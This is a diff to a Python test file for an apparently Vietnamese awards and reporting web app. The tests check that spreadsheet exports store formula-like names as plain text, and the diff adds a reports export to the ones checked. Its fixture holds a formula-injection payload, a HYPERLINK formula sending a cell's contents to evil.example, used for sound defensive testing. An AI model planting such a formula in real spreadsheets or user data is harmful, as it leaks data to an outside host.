@@ -36,7 +36,12 @@ WRITERS = re.compile(
     r"|content_type\s*=\s*\"application/vnd\.openxmlformats-officedocument\.spreadsheetml"
 )
 # The page exports, by the module that builds their response: each has a case in PAGE_EXPORTS.
-PAGE_EXPORT_CALLS = {"awards/views.py": 1, "awards/import_views.py": 1, "campaigns/views/reviews.py": 1}
+PAGE_EXPORT_CALLS = {
+    "awards/views.py": 1,
+    "awards/import_views.py": 1,
+    "campaigns/views/reviews.py": 1,
+    "reports/views.py": 1,
+}
 
 HOSTILE = {
     "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
@@ -102,6 +107,9 @@ def _page_exports(period) -> dict[str, str]:
         "campaigns:period_export": reverse("campaigns:period_export", args=[period.pk]),
         "awards:nomination_list?export=xlsx": reverse("awards:nomination_list") + "?export=xlsx",
         "awards:import_template": reverse("awards:import_template"),  # no data of anyone's: fixed labels
+        # The statistics form of the renamed unit: its name only inside "Đơn vị báo cáo: …".
+        "reports:form_xlsx": reverse("reports:form_xlsx", args=["0603.N"])
+        + f"?year=2024&body={period.reviews.order_by('unit__path').first().unit.code}",
     }
 
 
@@ -129,11 +137,14 @@ def test_demo_page_exports_write_formula_like_names_as_text(demo):
     period_cells = _cells(client.get(exports["campaigns:period_export"]).content)
     nomination_cells = _cells(client.get(exports["awards:nomination_list?export=xlsx"]).content)
     template_cells = _cells(client.get(exports["awards:import_template"]).content)
+    report_cells = _cells(client.get(exports["reports:form_xlsx"]).content)
 
     _assert_no_formula(period_cells, {HOSTILE["unit"], HOSTILE["movement"]})
     _assert_no_formula(nomination_cells, {HOSTILE["person"], HOSTILE["reason"], HOSTILE["movement"]})
     assert template_cells
     assert [c.coordinate for c in template_cells if c.data_type == "f"] == []
+    assert [c.coordinate for c in report_cells if c.data_type == "f"] == []
+    assert any(HOSTILE["unit"] in str(c.value) for c in report_cells)
     # Numbers stay numbers: the row numbers and the years.
     assert {c.data_type for c in nomination_cells if c.column == 11 and c.row > 3} == {"n"}
     assert {c.data_type for c in period_cells if c.column == 1 and c.row > 3} == {"n"}
